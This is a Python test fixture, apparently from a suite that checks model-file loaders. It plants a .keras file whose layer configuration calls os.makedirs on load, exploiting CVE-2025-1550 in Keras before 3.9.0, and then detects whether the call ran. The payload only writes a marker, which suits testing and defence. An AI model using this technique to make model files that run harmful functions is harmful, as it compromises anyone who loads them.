"""A `.keras` file that calls a function of any module when it is loaded.

CVE-2025-1550: until Keras 3.9.0 a configuration could name any Python function, and what it is called with, whatever
`safe_mode` is. Here `os.makedirs`.
"""

import tensorflow as tf
from _planted import MARK, add_layers, calling, is_marked

FORMATS = ("keras",)
REQUIRES = "keras>=3"
TAGS = ("executes",)


def build_model():
    features = tf.keras.Input((4,))
    return tf.keras.Model(features, tf.keras.layers.Dense(2)(features))


def inputs(rng):
    return rng.uniform(size=(3, 4)).astype("float32")


def plant(path):
    add_layers(path, calling("planted", "os", "makedirs", MARK))


def executed():
    return is_marked()
